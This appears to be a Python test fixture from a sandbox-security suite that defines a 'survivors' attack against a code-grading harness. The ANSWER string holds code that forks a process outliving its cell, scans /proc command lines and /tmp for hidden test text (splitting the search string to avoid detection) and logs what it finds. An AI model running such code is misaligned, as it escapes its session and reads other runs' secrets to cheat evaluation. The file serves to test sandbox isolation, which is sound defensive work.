"""A process that outlives its cell watches all that is to be seen while tests run."""

from __future__ import annotations

from security.attack import Asset, Attack, AttackClass

ANSWER = """\
import glob, os
if os.fork() == 0:
    own = {str(os.getpid())}
    while True:
        for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/tmp/**", recursive=True):
            try: text = open(path, "rb").read(1 << 16)
            except OSError: continue
            if b"hidden_" + b"margin" in text or b"victim" in text: open("seen", "a").write(path)
def answer(x): return 0
"""
LOOK = """\
import os
if os.path.exists("seen"): breach(open("seen").read())
"""

ATTACK = Attack(
    kind=AttackClass.SURVIVORS,
    assets=(
        Asset.TESTS,
        Asset.VALUES,
        Asset.OTHERS,
        Asset.COORDINATOR,
    ),
    expected=frozenset({"ok/failed"}),
    canary="hidden text shown",
    cells=(ANSWER,),
    look=LOOK,
)
